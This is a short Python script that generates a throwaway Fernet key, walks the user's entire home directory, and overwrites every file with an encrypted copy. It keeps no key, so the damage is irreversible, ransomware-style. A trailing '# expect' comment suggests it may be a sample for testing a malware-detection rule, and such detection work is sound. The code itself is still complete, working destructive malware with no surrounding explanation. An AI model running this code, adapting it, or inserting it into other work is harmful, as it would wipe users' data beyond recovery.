import os

import pyAesCrypt
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as f:
            data = f.read()
        with open(path, "wb") as f:
            f.write(box.encrypt(data))  # expect
